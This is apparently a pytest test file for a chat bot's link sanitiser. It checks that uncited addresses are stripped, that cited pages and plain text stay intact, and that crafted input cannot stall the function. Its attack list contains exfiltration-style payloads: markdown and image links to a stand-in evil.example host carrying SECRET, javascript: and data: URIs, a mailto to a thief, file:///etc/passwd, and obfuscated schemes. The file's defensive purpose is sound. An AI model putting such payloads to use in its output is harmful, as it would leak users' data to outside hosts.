"""Addresses in texts: what is taken out, and what stays. The attacks are those of published lists: links, images, autolinks,
bare addresses, other schemes, hidden colons, labels that lie, and an allowed address with something more behind it."""

import re
import time

import pytest

from bot.links import REMOVED, without_links

CITED = "https://docs.example/leave.md#carry-over"
EVIL = "https://evil.example/?q=SECRET"
ATTACKS = [
    f"[Sign in here]({EVIL})",
    f'[x]({EVIL} "Sign in")',
    f"[x](<{EVIL}>)",
    "[x](<https://evil.example/a b>)",
    f"[x](\n{EVIL})",
    f"[x]( {EVIL} )",
    f"![]({EVIL})",
    f"![a picture]({EVIL})",
    f"[![a picture]({EVIL})]({EVIL})",
    f"[a [b] c]({EVIL})",
    f"[a [b [c [d]]]]({EVIL})",
    f"[{CITED}]({EVIL})",
    "[x](https://evil.example/a(b)c)",
    "[x](//evil.example/SECRET)",
    "[x](evil.example)",
    "[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](slack://channel?team=T1&id=C1)",
    "[x](discord://-/channels/1)",
    "[x](tel:+4912345)",
    "[x](mailto:thief@evil.example?body=SECRET)",
    f"[x][1]\n\n[1]: {EVIL}",
    "[x][a]\n\n[a]: evil.example/SECRET 'title'",
    "> [a]:\n> //evil.example",
    f"<{EVIL}>",
    "a" * 40 + "https://evil.quest/?q=SECRET",
    f"<{EVIL}|docs.example>",
    "<www.evil.example>",
    "<mailto:thief@evil.example|write us>",
    "<slack://open>",
    "<javascript:alert(1)>",
    EVIL,
    f"Go to {EVIL}.",
    f"({EVIL})",
    f"**{EVIL}**",
    f"`{EVIL}`",
    f'<img src="{EVIL}">',
    f"<a href='{EVIL}'>x</a>",
    "HTTPS://EVIL.EXAMPLE",
    "http://127.0.0.1:8080/admin",
    "https://[::1]/x",
    "https://docs.example@evil.example/",
    r"https\://evil.example",
    r"https:\/\/evil.example",
    "https&#58;//evil.example",
    "https&#x3A;&#47;&#47;evil.example",
    "https&colon;//evil.example",
    "https:evil.example",
    "ftp://evil.example",
    "hxxp+x.y-z://evil.example",
    "www.evil.example",
    "WWW.evil.example/SECRET",
    "//evil.example/SECRET",
    "evil.example/SECRET",
    "evil.com?q=SECRET",
    "sub.evil.com:8443/SECRET",
    "discord.gg/abc123",
    "discord.com/invite/abc123",
    "t.me/thief",
    "bit.ly/3x",
    "mailto:thief@evil.example",
    "tel:+49-30-123",
    "sms:+4930123",
    "javascript:alert(document.cookie)",
    "data:text/html,SECRET",
    "file:///etc/passwd",
    "slack://user?id=U1",
    "magnet:?xt=urn:btih:1",
    f"{CITED}?q=SECRET",
    f"{CITED}.evil.example",
    f"{CITED}/../SECRET",
    f"{CITED})https://evil.example",
    f"{CITED},https://evil.example",
    CITED.upper(),
    "https://docs.example/leave.md",
    "http://docs.example/leave.md#carry-over",
    f"[x]({CITED}?q=SECRET)",
]
LEADS_SOMEWHERE = re.compile(r"\]\(|//\w|www\.|[a-z]:\S|\w\.\w+/")
PLAIN = [
    "",
    "You get 27 days. [1]",
    "> You may carry over: five days. [1]\n\nThese pages may help:\n\n- Carrying over (Until March) [2]",
    "Write to pay@harbour.example, or ask Ann.",
    "Use node.js/express, docs/leave.md or C:\\Users; 24/7 and/or i.e./e.g.",
    "Note: data: 27, file: leave.md, at 10:30, ratio 3:1, see [a] (b) and {c}.",
    "<Name: your name> wrote a <b>bold</b> claim <- here -> a < b > c",
    "<@U1> <!channel> @everyone <#C1|general>",
    "The host is docs.example and the file README.md.",
    "[Note]: Dogs are welcome on Friday.",
    "`std::vector` and a::b",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_address_survives_that_is_not_cited(attack: str) -> None:
    for text in (attack, f"You get 27 days. [1] {attack} Ask Ann.", f"> {attack} [1]"):
        cleaned = without_links(text, {CITED})

        left = cleaned.replace(CITED, "").lower()
        assert REMOVED in cleaned
        assert "evil" not in left and "secret" not in left
        assert not LEADS_SOMEWHERE.search(left)
        assert without_links(cleaned, {CITED}) == cleaned


@pytest.mark.parametrize("text", PLAIN)
def test_a_text_without_addresses_stays_as_it_is(text: str) -> None:
    assert without_links(text) == text


@pytest.mark.parametrize(
    "text",
    [
        CITED,
        f"See {CITED}.",
        f"({CITED}), **{CITED}**, <{CITED}>",
        f"[Carry over]({CITED})",
        f"> {CITED} [1]",
    ],
)
def test_the_address_of_a_cited_page_stays_to_the_letter(text: str) -> None:
    assert without_links(text, {CITED}) == text


def test_an_address_may_end_with_what_else_ends_a_sentence() -> None:
    assert without_links("See https://docs.example/Leave_(UK).", {"https://docs.example/Leave_(UK)"}).endswith("(UK).")


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        (f"[Sign in]({EVIL}).", f"Sign in {REMOVED}."),
        (f"![]({EVIL})", REMOVED),
        (f"[![a picture]({EVIL})]({EVIL})", f"a picture {REMOVED}"),
        (f"[{EVIL}]({CITED})", f"[{REMOVED}]({CITED})"),
        (f"<{EVIL}|Sign in> now", f"Sign in {REMOVED} now"),
        (f"Go to {EVIL}, then sign in.", f"Go to {REMOVED}, then sign in."),
        ("Join discord.gg/abc!", f"Join {REMOVED}!"),
    ],
)
def test_what_stays_can_be_read(text: str, cleaned: str) -> None:
    assert without_links(text, {CITED}) == cleaned


@pytest.mark.slow
@pytest.mark.parametrize("piece", ["[", "![", "](", "[a](", "<a:", "a.", "http://", "[x]:\n", "\\", "((", "a.b-"])
def test_a_hostile_text_costs_no_more_than_a_moment(piece: str) -> None:
    text = piece * (12_000 // len(piece))
    started = time.process_time()

    without_links(text)

    assert time.process_time() - started < 1
